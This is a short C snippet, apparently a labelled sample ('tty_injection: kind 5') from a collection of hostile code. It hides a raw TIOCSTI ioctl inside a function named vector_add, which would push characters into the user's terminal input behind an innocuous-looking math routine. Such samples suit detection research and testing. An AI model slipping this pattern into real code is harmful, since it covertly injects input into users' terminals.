/* tty_injection: kind 5: TIOCSTI on its standard streams to type commands into a terminal. */
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  char c = 'x';
  SYS3(NR_ioctl, 1, 0x5412, &c);
  adv_compute(a, b, out, alpha, n);
}
